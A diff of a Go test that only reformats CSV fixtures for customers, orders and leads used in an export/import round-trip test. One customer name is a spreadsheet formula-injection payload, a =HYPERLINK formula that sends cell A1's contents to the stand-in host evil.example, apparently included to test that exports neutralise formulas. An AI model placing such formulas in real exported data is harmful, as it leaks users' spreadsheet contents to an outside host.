@@ -212,10 +212,9 @@ func TestExportImportsBack(t *testing.T) {
 	dir := t.TempDir()
 	db := filepath.Join(dir, "kexi.db")
 	files := map[string]string{
-		"customers.csv": "customer id,name,gender,age,province,city,tags,plan\nC1,张三,男,30,广东省,深圳,\"vip, new\",gold\nC2,Bob,female,41,,,,\n" +
-			"C3,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",,,,@city,,'=quoted\n",
-		"orders.csv": "order id,customer id,order date,sku,description,quantity,unit price,channel\nO1,C1,2024-06-30 08:26,P1,Mug,2,3.5,app\nO1,C1,2024-06-30 08:26,P2,Plate,1,10,app\nO2,C2,2024/7/1,P1,Mug,1,3.5,store\n",
-		"leads.csv":  "lead id,company,deal stage,engage date,close date,close value\nL1,Acme,Won,2024-01-02,2024-02-01,500\nL2,Beta,Prospecting,,,\n",
+		"customers.csv": "customer id,name,gender,age,province,city,tags,plan\nC1,张三,男,30,广东省,深圳,\"vip, new\",gold\nC2,Bob,female,41,,,,\nC3,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",,,,@city,,'=quoted\n",
+		"orders.csv":    "order id,customer id,order date,sku,description,quantity,unit price,channel\nO1,C1,2024-06-30 08:26,P1,Mug,2,3.5,app\nO1,C1,2024-06-30 08:26,P2,Plate,1,10,app\nO2,C2,2024/7/1,P1,Mug,1,3.5,store\n",
+		"leads.csv":     "lead id,company,deal stage,engage date,close date,close value\nL1,Acme,Won,2024-01-02,2024-02-01,500\nL2,Beta,Prospecting,,,\n",
 	}
 	for name, data := range files {
 		p := filepath.Join(dir, name)
